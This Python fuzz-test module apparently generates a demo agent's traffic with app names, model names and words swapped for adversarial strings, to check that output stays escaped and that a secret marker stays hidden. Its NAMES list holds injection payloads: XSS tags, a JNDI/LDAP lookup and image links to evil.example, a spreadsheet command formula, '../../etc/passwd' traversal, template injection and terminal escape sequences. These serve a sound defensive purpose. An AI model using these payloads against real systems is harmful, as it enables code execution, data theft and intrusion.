"""A stream that wants to be believed and to do harm: the demo's day under hostile names and words, with broken records in between."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from itertools import islice
from typing import NamedTuple

from agent.demo import traffic
from agent.demo.record import Sent
from tests.fuzz.mutate import mutated
from tests.fuzz.parse import seeds

SECRET = "zqxsecret"
"""Stands in words of prompts and answers, and nowhere else: where text may not be shown nothing may show it."""

NAMES = (
    "<script>alert(1)</script>",
    '" onload="alert(1)" x="',
    "'><img src=https://evil.example/x onerror=alert(2)>",
    "[/red][bold]app[link=http://evil.example]x[/link]",
    "\x1b[2J\x1b]0;title\x07gone\r\nsecond\x00\x9b31m",
    "\u202egnp.exe\u200b\u2066\ufeff\u2028line\u2029",
    "a|b`c``d\\|e\n---\n# heading",
    "[click](https://evil.example) ![x](//evil.example/p) <https://evil.example>",
    "@here <!channel> <@U123> @everyone www.evil.example",
    "=cmd|'/c calc'!A0",
    "\ud800 half \udfff",
    "{{7*7}} {% raw %} ${jndi:ldap://evil.example/a} %s %n {0}",
    "../../etc/passwd",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301\u0301\u0301 客服 עברית",
    "x" * 4_000,
    " \t\x00 ",
    "]]> <!-- --> &lt;b&gt; &#x3c; <?php ?>",
    "**bold** _it_ ~~s~~ ***",
)

_APPS = ("support-bot", "faq-bot", "invoice-extractor", "agent-coder", "hr-helper")
_MODELS = ("gpt-4o-mini", "gpt-4o", "claude-haiku-4-5", "claude-sonnet-4-5", "gpt-5", "gpt-4.1")


class Round(NamedTuple):
    """One database's worth. `secret`: words of its texts may not be shown."""

    sent: list[Sent]
    secret: bool


def rounds(seed: int, records: int, each: int, *, start: float, hours: int) -> Iterator[Round]:
    """`records` of them, `each` at a time; every round has other names, words and breaks."""
    samples = seeds()
    for number in range(0, records, each):
        rng = random.Random(f"{seed}:{number}")
        count = min(each, records - number)
        yield Round(list(_round(rng, samples, count, start, hours)), rng.random() < 0.5)


def _round(rng: random.Random, samples: list[bytes], count: int, start: float, hours: int) -> Iterator[Sent]:
    told = traffic(rng.randrange(1 << 30), start=start, hours=hours, calls=max(count // 2, 1))
    names = [(name, rng.choice(NAMES)) for name in (*_APPS, *_MODELS) if rng.random() < 0.4]
    words = [(word, f" {rng.choice(NAMES)} {SECRET} ") for word in (" the ", " is ", " your ") if rng.random() < 0.4]
    changes = [(old.encode(), _written(new, rng)) for old, new in names + words]
    recent: list[bytes] = list(samples)
    made = 0
    for sent in islice(told, count):
        value = sent.value
        if rng.random() < 0.1:
            # Broken before anything secret is in it: what is broken may show its text as a name.
            value = mutated(value, recent, rng)
        else:
            for old, new in changes:
                value = value.replace(old, new)
        yield sent._replace(value=value)
        made += 1
    for _ in range(count - made):
        value = mutated(rng.choice(samples), samples, rng)
        at = start + rng.random() * hours * 3_600
        yield Sent(rng.choice(("calls", "<b>logs</b>\x1b[1m")), at, None, value, "")


def _written(text: str, rng: random.Random) -> bytes:
    """Within a string of JSON, escaped or as it is."""
    written = json.dumps(text, ensure_ascii=rng.random() < 0.5)[1:-1]
    return written.encode("utf-8", "surrogatepass")
